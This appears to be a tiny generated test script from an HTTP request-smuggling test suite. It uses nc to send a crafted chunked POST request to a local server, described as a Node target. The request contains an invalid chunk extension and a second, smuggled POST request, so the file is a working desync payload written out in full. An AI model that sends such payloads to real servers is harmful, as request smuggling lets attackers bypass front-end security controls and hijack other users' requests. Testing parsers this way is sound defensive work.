#!/bin/sh
# desync/chunk-extension-invalid/smuggled-request via chunk.extension+chunk.last against node
printf 'POST / HTTP/1.1\r\nHost:127.0.0.1:58937\r\nTransfer-Encoding:chunked\r\n\r\n00;a=\r\n\r\nPOST /\n127.0.0.1:58937\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' | nc 127.0.0.1 ${PORT:-58937}
